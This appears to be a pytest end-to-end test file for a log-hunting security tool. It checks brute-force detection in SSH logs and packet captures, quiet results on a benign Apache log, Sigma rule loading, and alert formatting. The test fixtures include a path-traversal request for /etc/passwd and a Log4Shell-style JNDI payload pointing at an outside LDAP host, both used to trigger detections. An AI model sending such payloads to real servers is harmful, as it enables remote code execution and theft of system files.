"""`hunt` finds attacks in real logs and captures, without a store."""

import gzip
import json
import re
import tarfile
from collections import Counter
from pathlib import Path
from typing import Any

import pytest

from soc_agent.model import Level
from tests.end_to_end.running import soc_agent

KEYS = {"rule_id", "title", "level", "time", "layer", "host", "entities", "count", "path", "line", "raw"}


def hunt(*words: str | Path) -> list[dict[str, Any]]:
    done = soc_agent("hunt", "--json", *words)
    assert done.returncode == 0, done.stderr
    return [json.loads(line) for line in done.stdout.splitlines()]


def named(alerts: list[dict[str, Any]], least: Level) -> set[str]:
    return {
        address
        for alert in alerts
        if Level.parse(alert["level"]) >= least
        for address in alert["entities"].get("src_ip", [])
    }


@pytest.mark.data
def test_the_brute_forcing_addresses_of_the_openssh_log_are_named(shared_data: Path) -> None:
    """Every address with at least ten failed passwords is in an alert of medium or above."""
    path = shared_data / "logs" / "OpenSSH_2k.log"
    tries = Counter(re.findall(r"Failed password for .* from (\S+) port", path.read_text("utf-8", "replace")))
    guessing = {address for address, count in tries.items() if count >= 10}
    assert len(guessing) >= 3
    assert guessing - named(hunt(path), Level.MEDIUM) == set()


@pytest.mark.data
def test_the_brute_forcing_hosts_of_the_linux_log_are_named(shared_data: Path) -> None:
    """The old PAM form too, in which the remote host is an address or a name."""
    path = shared_data / "logs" / "Linux_2k.log"
    tries = Counter(
        re.findall(r"authentication failure;.*rhost=(\d+\.\d+\.\d+\.\d+)", path.read_text("utf-8", "replace"))
    )
    guessing = {address for address, count in tries.items() if count >= 15}
    assert len(guessing) >= 3
    assert guessing - named(hunt(path), Level.MEDIUM) == set()


@pytest.mark.data
@pytest.mark.parametrize("capture", ["ftp_bruteforce.pcap", "ssh_sshguess.pcap"])
def test_brute_force_is_seen_from_packets_alone(shared_data: Path, capture: str) -> None:
    alerts = hunt(shared_data / "pcap" / capture)
    attack = {"attack.t1110", "attack.t1110.001", "attack.t1110.003"}
    assert any(attack & set(alert["tags"]) and alert["entities"].get("src_ip") for alert in alerts), alerts


@pytest.mark.data
def test_the_apache_log_of_an_ordinary_day_is_quiet(shared_data: Path) -> None:
    """Errors of an application server are no attack."""
    alerts = hunt(shared_data / "logs" / "Apache_2k.log")
    assert [alert for alert in alerts if Level.parse(alert["level"]) >= Level.HIGH] == []


@pytest.mark.data
def test_the_whole_public_rule_set_loads(shared_data: Path, tmp_path: Path) -> None:
    """Every rule that cannot be used is named with the reason; the rest runs."""
    with tarfile.open(shared_data / "sigmahq-rules.tar.gz") as archive:
        archive.extractall(tmp_path / "public", filter="data")
    files = len(list((tmp_path / "public").rglob("*.yml")))
    log = tmp_path / "auth.log"
    log.write_text("Sep 30 12:11:33 h sshd[1]: Invalid user admin from 192.0.2.1 port 1\n")
    done = soc_agent("hunt", "--json", "--no-builtin", "--rules", tmp_path / "public", log)
    assert done.returncode == 0, done.stderr[-2000:]
    refused = set(re.findall(r"\S*public/(\S+?\.yml)", done.stderr))
    (running,) = re.findall(r"(\d+) rules,", done.stderr)
    assert int(running) + len(refused) >= files
    assert len(refused) < files / 10


def test_each_alert_has_the_keys_that_programs_rely_on(tmp_path: Path) -> None:
    log = tmp_path / "access.log"
    log.write_text(
        '192.0.2.9 - - [02/Mar/2026:06:00:00 +0700] "GET /?file=../../../../etc/passwd HTTP/1.1" 200 99 "-" "curl/8"\n'
    )
    alerts = hunt(log)
    assert alerts
    for alert in alerts:
        assert alert.keys() >= KEYS
        assert alert["time"] == "2026-03-01T23:00:00.000000Z"
        assert alert["entities"]["src_ip"] == ["192.0.2.9"]
        assert (alert["path"], alert["line"]) == (str(log), 1)
        assert alert["layer"] in (1, 2, 3, 4)


def test_a_compressed_log_and_its_type_told_or_guessed_give_the_same(tmp_path: Path) -> None:
    lines = "".join(
        f"Mar  2 06:00:{n:02d} h sshd[{n}]: Failed password for root from 203.0.113.5 port 40{n:02d} ssh2\n"
        for n in range(30)
    )
    (tmp_path / "auth.log").write_text(lines)
    (tmp_path / "auth.log.gz").write_bytes(gzip.compress(lines.encode()))

    def found(*words: str | Path) -> list[tuple[str, int]]:
        return [(alert["rule_id"], alert["count"]) for alert in hunt(*words)]

    plain = found(tmp_path / "auth.log")
    assert plain
    assert found(tmp_path / "auth.log.gz") == plain
    assert found("--type", "syslog", tmp_path / "auth.log") == plain


def test_findings_decide_the_exit_code_only_when_asked(tmp_path: Path) -> None:
    log = tmp_path / "access.log"
    log.write_text(
        '192.0.2.9 - - [02/Mar/2026:06:00:00 +0700] "GET /?q=${jndi:ldap://203.0.113.1/a} HTTP/1.1" 400 9 "-" "-"\n'
    )
    assert soc_agent("hunt", log).returncode == 0
    assert soc_agent("hunt", "--fail-on", "medium", log).returncode == 1
    log.write_text('192.0.2.9 - - [02/Mar/2026:06:00:00 +0700] "GET / HTTP/1.1" 200 9 "-" "Mozilla/5.0"\n')
    assert soc_agent("hunt", "--fail-on", "low", log).returncode == 0


def test_rotated_files_are_read_in_the_order_they_were_written(tmp_path: Path) -> None:
    """Guessing that began in the rotated file and ended in the new one is one attack."""
    line = "Mar  2 06:00:{0:02d} h sshd[{0}]: Failed password for root from 203.0.113.5 port 40{0:02d} ssh2\n"
    (tmp_path / "auth.log.1").write_text("".join(line.format(n) for n in range(20)))
    (tmp_path / "auth.log").write_text("".join(line.format(n) for n in range(20, 40)))
    together = [(alert["rule_id"], alert["count"]) for alert in hunt(tmp_path)]
    (tmp_path / "whole").mkdir()
    (tmp_path / "whole" / "auth.log").write_text("".join(line.format(n) for n in range(40)))
    assert together == [(alert["rule_id"], alert["count"]) for alert in hunt(tmp_path / "whole")]
